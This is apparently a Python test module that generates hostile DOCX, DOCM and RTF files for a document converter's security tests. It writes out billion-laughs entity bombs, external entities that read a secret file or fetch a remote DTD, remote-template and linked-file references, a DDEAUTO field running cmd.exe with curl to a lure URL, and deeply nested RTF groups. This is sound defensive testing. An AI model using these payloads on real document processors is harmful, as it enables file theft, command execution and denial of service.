"""Word documents and rich texts that mean harm."""

from pathlib import Path

from tests.hostile.case import Case, Lures, Make
from tests.hostile.cases import documents_includes, documents_markup, documents_open
from tests.hostile.cases.documents_parts import RELATIONS, WORD, case, office, relation, relations, word

LAUGHS = '<!DOCTYPE w [<!ENTITY a0 "laughter">{}]>'.format(
    "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
)


def _paragraph(content: str) -> str:
    return f"<w:p><w:r><w:t>Text</w:t></w:r>{content}</w:p>"


def _picture(link: str) -> str:
    return (
        '<w:r><w:drawing><wp:inline><wp:extent cx="900000" cy="900000"/><wp:docPr id="1" name="x"/>'
        '<a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic><pic:nvPicPr>'
        '<pic:cNvPr id="1" name="x"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill>'
        f'<a:blip r:link="{link}"/><a:stretch><a:fillRect/></a:stretch></pic:blipFill><pic:spPr/></pic:pic>'
        "</a:graphicData></a:graphic></wp:inline></w:drawing></w:r>"
    )


def _field(instruction: str) -> str:
    return f"<w:fldSimple w:instr='{instruction}'><w:r><w:t>old</w:t></w:r></w:fldSimple>"


def word_with_links(path: Path, lures: Lures) -> None:
    """Pictures, chunks and fields that stand for files elsewhere."""
    secret = lures.secret.as_uri()
    body = "".join(
        _paragraph(content)
        for content in (
            _picture("r1"),
            _picture("r2"),
            _field(f' INCLUDEPICTURE "{lures.url}/field.png" \\d '),
            _field(f' INCLUDETEXT "{lures.secret}" '),
        )
    )
    links = (
        relation(1, "image", f"{lures.url}/picture.png"),
        relation(2, "image", secret),
        relation(3, "aFChunk", secret),
        relation(4, "subDocument", f"{lures.url}/part.docx"),
    )
    path.write_bytes(word(f'{body}<w:altChunk r:id="r3"/><w:subDoc r:id="r4"/>', *links))


def word_with_template(path: Path, lures: Lures) -> None:
    """Its template, which may bring macros, is on the network."""
    settings = (
        f'<w:settings xmlns:w="{WORD}" xmlns:r="{RELATIONS}"><w:attachedTemplate r:id="r1"/></w:settings>'
    )
    more = {
        "word/settings.xml": settings,
        "word/_rels/settings.xml.rels": relations(relation(1, "attachedTemplate", f"{lures.url}/evil.dotm")),
    }
    path.write_bytes(word(_paragraph(""), relation(1, "settings", "settings.xml", outside=False), more=more))


def word_with_entities(part: str) -> Make:
    """Laughs by the billion, and a file, in the text or in the styles."""

    def make(path: Path, lures: Lures) -> None:
        outside = (
            f'<!ENTITY out SYSTEM "{lures.secret.as_uri()}"><!ENTITY % far SYSTEM "{lures.url}/x.dtd">%far;'
        )
        doctype, uses = LAUGHS.replace("[", f"[{outside}", 1), "<w:r><w:t>&out;&a9;</w:t></w:r>"
        if part == "document":
            path.write_bytes(word(_paragraph(uses), doctype=doctype))
            return
        name = '<w:style w:type="paragraph" w:styleId="a"><w:name w:val="&a9;"/></w:style>'
        styles = f'{doctype}<w:styles xmlns:w="{WORD}">&out;{name}</w:styles>'
        link = relation(1, "styles", "styles.xml", outside=False)
        path.write_bytes(word(_paragraph(""), link, more={"word/styles.xml": styles}))

    return make


def word_with_macros(path: Path, _: Lures) -> None:
    """A DOCM, whose project of macros is damaged as well."""
    link = relation(1, "vbaProject", "vbaProject.bin", outside=False)
    path.write_bytes(
        word(_paragraph(""), link, more={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0" + bytes(9999)})
    )


def rich_text_with_fields(path: Path, lures: Lures) -> None:
    """Pictures and texts of elsewhere."""
    fields = (
        f'INCLUDEPICTURE "{lures.url}/a.png" \\\\d',
        f'INCLUDETEXT "{lures.secret}"',
        f'LINK Word.Document.8 "{lures.secret}"',
        f'DDEAUTO c:\\\\cmd.exe "/k curl {lures.url}"',
    )
    told = "".join(
        f"{{\\field{{\\*\\fldinst {{ {field} }}}}{{\\fldrslt {{old}}}}}}\\par " for field in fields
    )
    path.write_text(f"{{\\rtf1\\ansi {{\\*\\template {lures.url}/evil.dot}}Text {told}}}")


def _nested_groups(path: Path, _: Lures) -> None:
    path.write_bytes(b"{\\rtf1\\ansi " + b"{" * 200_000 + b"Text" + b"}" * 200_000 + b"}")


def _laughing(id: str, what: str, part: str) -> Case:
    return office(id, what, word_with_entities(part), "laughs.docx", "txt", "input_corrupt")


CASES = (
    office("H080", "a DOCX that links files, for an office", word_with_links, "links.docx", "odt"),
    office("H080", "a DOCX that links files, printed", word_with_links, "links.docx", "pdf"),
    case("H080", "a DOCX that links files, for the web", word_with_links, "links.docx", "html"),
    office("H082", "a DOCX with a distant template", word_with_template, "letter.docx", "odt"),
    office("H084", "a DOCM with macros", word_with_macros, "macros.docm", "odt"),
    _laughing("H085", "a DOCX with entities in its text, for an office", "document"),
    case("H085", "a DOCX with entities in its text", word_with_entities("document"), "a.docx", "txt",
        "input_corrupt"),
    _laughing("H085", "a DOCX with entities in its styles", "styles"),
    office("H086", "an RTF of fields", rich_text_with_fields, "fields.rtf", "docx"),
    case("H086", "an RTF of fields, for the web", rich_text_with_fields, "fields.rtf", "html"),
    office("H086", "an RTF of 200,000 groups, for an office", _nested_groups, "deep.rtf", "txt"),
    case("H086", "an RTF of 200,000 groups", _nested_groups, "deep.rtf", "txt"),
    *documents_open.CASES,
    *documents_includes.CASES,
    *documents_markup.CASES,
)  # fmt: skip
